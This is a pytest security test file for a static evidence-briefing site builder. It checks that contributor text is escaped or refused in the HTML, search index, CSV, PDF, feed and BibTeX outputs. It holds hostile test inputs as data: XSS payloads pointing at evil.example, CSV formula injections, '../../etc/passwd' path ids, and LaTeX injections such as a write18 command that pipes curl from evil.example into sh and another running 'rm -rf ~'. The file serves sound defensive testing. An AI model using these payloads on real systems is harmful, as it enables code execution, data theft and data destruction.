"""Contributor text is untrusted: whatever it holds, the built site runs none of it.

A project whose every text field carries attack payloads is built for real; the HTML,
the search index and the downloads are parsed and checked, and the payload text must
still be there, shown as text (escaped, not dropped).
"""

from __future__ import annotations

import csv
import io
import json
import random
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from pypdf import PdfReader

from builder.build import page_front_matter
from builder.latex import ALLOWED
from builder.problems import MAX_PER_FILE, format_problems
from builder.render.html import Page
from builder.site import build_site
from tests.conftest import ENGINES, build_with, check_root, search_index

PAYLOAD = (
    '<script>alert("PWNED")</script><img src=x onerror=alert("PWNED")>'
    "[click](javascript:alert('PWNED')) <javascript:alert('PWNED')> <iframe src=//evil.example></iframe>"
    '<style>body{display:none}</style><form action=//evil.example><a href="data:text/html,PWNED">d</a>'
    "{: onclick=\"alert('PWNED')\" } ![x](javascript:alert('PWNED')) *[PWNED]: abbr &#x3C;script&#x3E;"
)
EVIL_TEXT_FIELDS = ("design", "setting")
# A summary has 80 to 200 words: the payload, then enough plain words.
EVIL_SUMMARY = PAYLOAD + " " + " ".join(["words"] * 80)
SAFE_SCHEMES = ("http://", "https://", "mailto:", "#")


def _yaml_str(text: str) -> str:
    return json.dumps(text)  # a JSON string is a valid double-quoted YAML scalar


@pytest.fixture(scope="module", params=ENGINES)
def evil_site(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("evil")
    (root / "evidence").mkdir()
    (root / "docs").mkdir()
    p = _yaml_str(PAYLOAD)
    # The site's name too: the theme prints it on every page (builder/mkdocs_plugin.py escapes it).
    (root / "mkdocs.yml").write_text(
        f"site_name: {p}\nuse_directory_urls: false\ntheme:\n  name: material\n  font: false\nplugins:\n  - evidence\n"
    )
    judged = f"{{concerns: minor, reason: {p}}}"
    (root / "evidence" / "themes.yaml").write_text(
        f"themes:\n  - id: leadership\n    title: {p}\n    question: {p}\n    description: {p}\n"
        f"    key_messages:\n      - id: m\n        statement: {p}\n        supported_by: [evil/f1]\n"
        f"        confidence:\n          coherence: {judged}\n          overall: {{level: low, reason: {p}}}\n"
        f"          assessed_by: {p}\n          assessed: 2026-01-01\n"
    )
    (root / "evidence" / "briefing.yaml").write_text(
        f"question: {p}\nimplications_for: {p}\nversion: {p}\npublisher: {p}\neditors: [{p}]\nlicence: {p}\n"
        f"scope:\n  description: {p}\n  places: [{p}]\n  from_year: 2020\n"
        f"  policy_context:\n    - date: 2022-07-01\n      change: {p}\n"
        f"methods:\n  systematic_review: false\n  statement: {p}\n"
    )
    fields = "\n".join(f"{name}: {p}" for name in EVIL_TEXT_FIELDS) + f"\nsummary: {_yaml_str(EVIL_SUMMARY)}"
    statement = _yaml_str(PAYLOAD + " [@evil2020, <b>PWNED</b>]")
    reason = _yaml_str(PAYLOAD + '" onmouseover=alert(1) x="')
    (root / "evidence" / "evil.yaml").write_text(
        f"id: evil\ncite: evil2020\ntype: study\n{fields}\nsample:\n  notes: {p}\n"
        f"findings:\n  - id: f1\n    theme: leadership\n    statement: {statement}\n"
        f"    quote:\n      text: {p}\n      locator: {p}\n"
        f"    strength:\n      level: low\n      reason: {reason}\n"
        f"  - id: f2\n    theme: leadership\n    statement: {p}\n"
        f"  - id: f3\n    theme: leadership\n    statement: {p}\n"
        f"limitations: [{p}]\nimplications: [{p}]\nadded: 2026-01-01\n"
        f"appraisal:\n  tool: {p}\n  concerns: minor\n  reason: {p}\n  appraised_by: {p}\n  appraised: 2026-01-01\n"
    )
    bib_payload = PAYLOAD.replace("{", "").replace("}", "")
    (root / "references.bib").write_text(
        f"@article{{evil2020,\n  author = {{{bib_payload} and Smith, J.}},\n  title = {{{bib_payload}}},\n"
        f"  journal = {{{bib_payload}}},\n  year = {{2020}},\n  howpublished = {{{bib_payload}}},\n}}\n"
    )
    result = check_root(root)
    assert result.ok, [p.text() for p in result.problems]
    return build_with(request.param, root)


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.article_tags: list[str] = []  # tags inside <article>, where page content goes
        self.scripts: list[str] = []
        self.text: list[str] = []
        self._in_script = False
        self._in_article = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self._in_script = tag == "script"
        self._in_article = self._in_article or tag == "article"
        if self._in_article:
            self.article_tags.append(tag)

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False
        self._in_article = self._in_article and tag != "article"

    def handle_data(self, data: str) -> None:
        (self.scripts if self._in_script else self.text).append(data)


def _parse(path: Path) -> _Collector:
    collector = _Collector()
    collector.feed(path.read_text(encoding="utf-8"))
    return collector


def _generated_pages(site: Path) -> list[Path]:
    """Every page of the site: each shows the navigation, and most show contributor text."""
    pages = sorted(site.rglob("*.html"))
    assert len(pages) > 10
    return pages


def test_no_script_handler_or_dangerous_element_reaches_the_html(evil_site: Path) -> None:
    for page in _generated_pages(evil_site):
        doc = _parse(page)
        dangerous = {"iframe", "object", "embed", "img", "style", "script", "input", "svg", "math"}
        assert not dangerous & set(doc.article_tags), (page, dangerous & set(doc.article_tags))
        assert "article" in doc.article_tags
        for tag, attrs in doc.tags:
            assert not [a for a in attrs if a.startswith("on")], (page, tag, attrs)
            if tag == "form":  # only the site's own filter forms, which send nothing anywhere
                assert attrs.get("class") in ("evidence-filters", "evidence-map-picker"), (page, attrs)
                assert "action" not in attrs, (page, attrs)
            if tag == "script":
                src = attrs.get("src") or ""
                assert src == "" or src.endswith(".js") and "://" not in src and ":" not in src, (page, src)
        assert not any("PWNED" in script for script in doc.scripts), page


def test_links_use_only_safe_schemes(evil_site: Path) -> None:
    for page in _generated_pages(evil_site):
        for _tag, attrs in _parse(page).tags:
            for name in ("href", "src", "action", "formaction", "xlink:href"):
                value = (attrs.get(name) or "").strip().lower()
                if ":" in value.split("/")[0]:
                    assert value.startswith(SAFE_SCHEMES), (page, name, value)


@pytest.mark.parametrize("page", ["sources/evil.html", "index.html", "themes/leadership.html", "methods.html"])
def test_payload_is_shown_as_text_not_dropped(evil_site: Path, page: str) -> None:
    # The source page (with its appraisal), the front matter, the editor's judgement and the prompts.
    text = " ".join(_parse(evil_site / page).text)
    assert '<script>alert("PWNED")</script>' in text
    assert "[click](javascript:alert('PWNED'))" in text


def test_search_index_is_data_that_cannot_end_its_script(evil_site: Path) -> None:
    for script in (evil_site / "search").glob("*.js"):
        text = script.read_text()
        assert "</" not in text and text.isascii(), script  # no </script>, no character to misread
    documents, postings = search_index(evil_site)
    # The payload is kept as text, for the browser to show with textContent, never as markup.
    (evil,) = [row for row in documents if row[0] == "sources/evil.html"]
    assert evil[3].startswith('<script>alert("PWNED")</script>')
    assert "pwned" in postings


def test_downloads_neutralise_spreadsheet_formulas(evil_site: Path) -> None:
    rows = list(csv.DictReader(io.StringIO((evil_site / "downloads" / "findings.csv").read_text())))
    assert rows and all(not v.startswith(("=", "+", "-", "@")) for row in rows for v in row.values())
    data = json.loads((evil_site / "downloads" / "evidence.json").read_text())
    assert data["sources"][0]["summary"] == EVIL_SUMMARY  # JSON keeps the text exactly; it is data, not markup


def test_the_feed_is_well_formed_xml(evil_site: Path) -> None:
    import xml.etree.ElementTree as ET

    feed = ET.parse(evil_site / "feed.xml").getroot()
    assert any(PAYLOAD in (e.text or "") for e in feed.iter())


@pytest.mark.parametrize(
    "title", ["\x80[x](https://evil.example){: #__search }", "a\nb: c\n---\nd", '"; title: x', "\u2028"]
)
def test_front_matter_cannot_be_broken_by_a_title(title: str) -> None:
    import yaml

    front = page_front_matter(Page("p", title, "<h1>x</h1>", description=title))
    assert front.isascii()
    meta = yaml.safe_load(front.strip().strip("-"))
    assert set(meta) == {"title", "description"}


@pytest.mark.parametrize("bad_id", ["../../etc/passwd", "a/b", "..", "CON", "x y", "-x", "x--y"])
def test_ids_that_could_make_paths_are_refused(mini: Path, bad_id: str) -> None:
    text = (mini / "evidence" / "gamma-blog.yaml").read_text().replace("id: gamma-blog", f"id: {json.dumps(bad_id)}")
    (mini / "evidence" / "gamma-blog.yaml").write_text(text)
    problems = check_root(mini).problems
    assert any(p.path == "id" and "is not a slug" in p.message for p in problems)


@pytest.mark.parametrize(
    ("value", "pieces"),
    [
        ('=HYPERLINK("x")', ['\'=HYPERLINK("x")']),
        ("plain text", ["plain text"]),
        ("Costs rose;=4+7;@SUM(1+17)", ["Costs rose", "'=4+7", "'@SUM(1+17)"]),  # Excel in much of Europe splits on ;
        ("a, +1, -2", ["a", " '+1", " '-2"]),
        ("\t=cmd|' /C calc'!A0;\r\n-2", ["'=cmd|' /C calc'!A0", " '-2"]),  # tabs and line ends are folded first
    ],
)
def test_no_piece_of_a_csv_cell_is_a_formula(value: str, pieces: list[str]) -> None:
    from builder.render.downloads import cell

    written = cell(value)
    assert written.startswith('"') and written.endswith('"')  # every text cell is quoted
    (found,) = next(csv.reader([written]))
    assert re.split(r"[;,\t]", found) == pieces


def test_verification_is_bounded_whatever_the_stored_text_and_the_file_hold(mini: Path) -> None:
    """Issue 25.4: a small evidence file against a megabyte stored text of numbers, with 300
    figures and 4 quotes that are not in it (it took 71 s and printed 118 KB). The text is indexed
    once, and the file gets at most the per-file cap of messages. (Times are measured by hand.)"""
    rnd = random.Random(25)
    numbers = " ".join(str(rnd.randrange(1000, 999999)) for _ in range(140_000))
    (mini / "source-texts" / "alpha-study.txt").write_text(f"Numbers (test data)\n\n{numbers}.\n")
    path = mini / "evidence" / "alpha-study.yaml"
    statements = "".join(
        f"  - id: figures-{i}\n    theme: leadership\n    statement: Figures "
        + " ".join(str(n) for n in range(1_000_000 + 100 * i, 1_000_100 + 100 * i))
        + f".\n    quote:\n      text: {numbers[i * 40 : i * 40 + 34]} zebra\n      locator: para 1\n"
        for i in range(3)
    )
    path.write_text(path.read_text().replace("findings:\n", "findings:\n" + statements))
    assert len(path.read_bytes()) < 5000
    problems = [p for p in check_root(mini).problems if p.file == "evidence/alpha-study.yaml"]
    # 300 figures of the statements, the sample's 12 and 2, and 4 quotes: 306, of which 20 are listed.
    assert len(problems) == MAX_PER_FILE + 1
    assert problems[-1].message == f"{306 - MAX_PER_FILE} more problems in this file are not listed"
    assert len(format_problems(problems)) < 20_000


# ---- Issue 25: what a pull request could carry in round three ----------------------------

# Unicode format characters (category Cf), each named as the check names it.
FORMAT_CHARACTERS = {
    "\u200b": "ZERO WIDTH SPACE (U+200B)",
    "\u200d": "ZERO WIDTH JOINER (U+200D)",
    "\u00ad": "SOFT HYPHEN (U+00AD)",
    "\u2060": "WORD JOINER (U+2060)",
    "\ufeff": "ZERO WIDTH NO-BREAK SPACE (U+FEFF)",  # a byte-order mark, inside the text
    "\u200e": "LEFT-TO-RIGHT MARK (U+200E)",
    "\u061c": "ARABIC LETTER MARK (U+061C)",
    "\U000e0041": "TAG LATIN CAPITAL LETTER A (U+E0041)",
}
BRIEFING = (
    "question: What helps?\nscope:\n  description: England.\n"
    "methods:\n  systematic_review: false\n  statement: We read what we found.\n"
)
# Each kind of contributed file, the text to put the character in, and that text's line.
CONTRIBUTED = {
    "evidence/alpha-study.yaml": ("setting: Two sites.", 5),
    "evidence/themes.yaml": ("question: Who leads?", 4),
    "evidence/briefing.yaml": ("question: What helps?", 1),
    "references.bib": ("title  = {A work the study cites}", 21),
}


@pytest.mark.parametrize("file", CONTRIBUTED)
@pytest.mark.parametrize("char", FORMAT_CHARACTERS, ids=[f"U+{ord(c):04X}" for c in FORMAT_CHARACTERS])
def test_format_characters_are_refused_in_every_contributed_file(mini: Path, file: str, char: str) -> None:
    (mini / "evidence" / "briefing.yaml").write_text(BRIEFING)
    text, line = CONTRIBUTED[file]
    path = mini / file
    written = path.read_text(encoding="utf-8")
    assert text in written
    path.write_text(written.replace(text, text[:-4] + char + text[-4:]), encoding="utf-8")
    (problem,) = [p for p in check_root(mini).problems if p.fails]
    assert problem.file == file and problem.line == line
    assert problem.message == f"the invisible character {FORMAT_CHARACTERS[char]} is not allowed"
    assert char not in problem.text() and problem.hint.startswith("delete it")


def test_joiners_may_stand_between_letters_of_scripts_that_need_them(mini: Path) -> None:
    path = mini / "evidence" / "alpha-study.yaml"
    persian = "Two sites; interviews in Persian (\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645)."
    path.write_text(path.read_text(encoding="utf-8").replace("setting: Two sites.", f"setting: {persian}"))
    result = check_root(mini)
    assert result.ok, [p.text() for p in result.problems]
    assert result.corpus.by_id["alpha-study"].source.setting == persian


def _cited(mini: Path, statement: str, findings: int) -> None:
    """alpha-study with `findings` more findings, on alternate themes, each saying `statement`."""
    path = mini / "evidence" / "alpha-study.yaml"
    themes = ("leadership", "practice-managers")
    more = "".join(
        f"  - id: more-{i}\n    theme: {themes[i % 2]}\n    statement: {json.dumps(statement)}\n"
        for i in range(findings)
    )
    path.write_text(path.read_text(encoding="utf-8").replace("limitations:\n", more + "limitations:\n"))


def test_a_work_cited_again_and_again_in_one_place_is_shown_once(mini: Path) -> None:
    # 80 such findings, 1,240 citations each ([@a; @a; ...]), took the PDF 124 s and 2 GB.
    _cited(mini, "See [@cited2019" + "; @cited2019" * 400 + "].", 80)
    site = build_site(mini / "mkdocs.yml")
    page = (site / "sources" / "alpha-study.html").read_text(encoding="utf-8")
    assert page.count(">Delta et al., 2019</a>)") == 80  # one link for each finding,
    assert page.count(">Delta et al., 2019</a>") < 100  # not 401
    assert len(PdfReader(site / "downloads" / "briefing.pdf").pages) < 20


def test_the_pdf_is_bounded_however_long_the_findings(mini: Path) -> None:
    _cited(mini, " ".join(["commissioning"] * 350) + " [@cited2019].", 80)  # 80 findings of 4,900 characters
    site = build_site(mini / "mkdocs.yml")
    reader = PdfReader(site / "downloads" / "briefing.pdf")
    assert len(reader.pages) < 40  # all 80 would be over a hundred pages
    text = " ".join(" ".join(page.extract_text() for page in reader.pages).split())
    more = "findings on this theme, after these in order of kind of source, are on the theme's page"
    assert f"{more} on the briefing's website." in text


def test_every_stage_of_the_check_is_capped_per_file(mini: Path) -> None:
    # 40 figures missing from the stored text (found by the verification) and 40 unknown citations
    # (found when the files are linked): one file's problems, listed once, 20 at most.
    path = mini / "evidence" / "alpha-study.yaml"
    wrong = "".join(f"  - id: wrong-{i}\n    theme: leadership\n    statement: It was {1000 + i}.\n" for i in range(40))
    text = path.read_text(encoding="utf-8").replace("limitations:\n", wrong + "limitations:\n")
    path.write_text(text.replace("references:\n  - cited2019\n", "references:\n" + "  - nowhere2020\n" * 40))
    problems = [p for p in check_root(mini).problems if p.file == "evidence/alpha-study.yaml"]
    assert len(problems) == MAX_PER_FILE + 1
    assert problems[-1].message == "60 more problems in this file are not listed" and problems[-1].fails


def test_downloaded_bibtex_carries_no_latex_a_reader_would_run(mini: Path) -> None:
    bib = mini / "references.bib"
    bib.write_text(
        '@comment{\\input{/etc/passwd}}\n% \\immediate\\write18{rm -rf ~}\n@string{jt = "Journal of {\\\'E}tudes"}\n'
        + bib.read_text().replace("journal = {Journal of Tests},", "journal = jt,\n  abstract = {Anything},")
    )
    site = build_site(mini / "mkdocs.yml")
    written = (site / "downloads" / "references.bib").read_text(encoding="utf-8")
    page = _parse(site / "sources" / "alpha-study.html")
    cite_this = next(t for t in page.text if t.startswith("@article{alpha2020"))
    for bibtex in (written, cite_this):
        assert "@comment" not in bibtex and "@string" not in bibtex and "@preamble" not in bibtex
        assert "abstract" not in bibtex and "input" not in bibtex and "write18" not in bibtex
        assert "journal = {Journal of {\\'E}tudes}" in bibtex  # the @string's text, written out
        assert set(re.findall(r"\\([A-Za-z]+|.)", bibtex)) <= ALLOWED
    assert written.count("@") == 3  # the three entries


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("See \\input{/etc/passwd}", "\\input"),
        ("\\immediate\\write18{curl evil.example | sh}", "\\immediate"),
        ("\\emph{a \\csname input\\endcsname}", "\\csname"),
        ("50% \\openout1=x", "\\openout"),  # a % is text in BibTeX: what follows it is checked too
        ("\\begin{verbatim}x\\end{verbatim}", "\\begin{verbatim}"),
        ("Tom ^^5cinput x", "^^"),  # TeX reads ^^5c as a backslash
        ("a } @preamble{ x", "}"),  # a brace that would end the value early
    ],
)
def test_latex_a_reader_would_run_is_refused_at_check_time(mini: Path, value: str, written: str) -> None:
    bib = mini / "references.bib"
    bib.write_text(bib.read_text().replace("title  = {A work the study cites},", f'note = "{value}",'))
    (problem,) = [p for p in check_root(mini).problems if p.fails]
    assert problem.file == "references.bib" and problem.path == "cited2019.note"
    assert problem.excerpt[problem.col - 1 :].startswith(written)
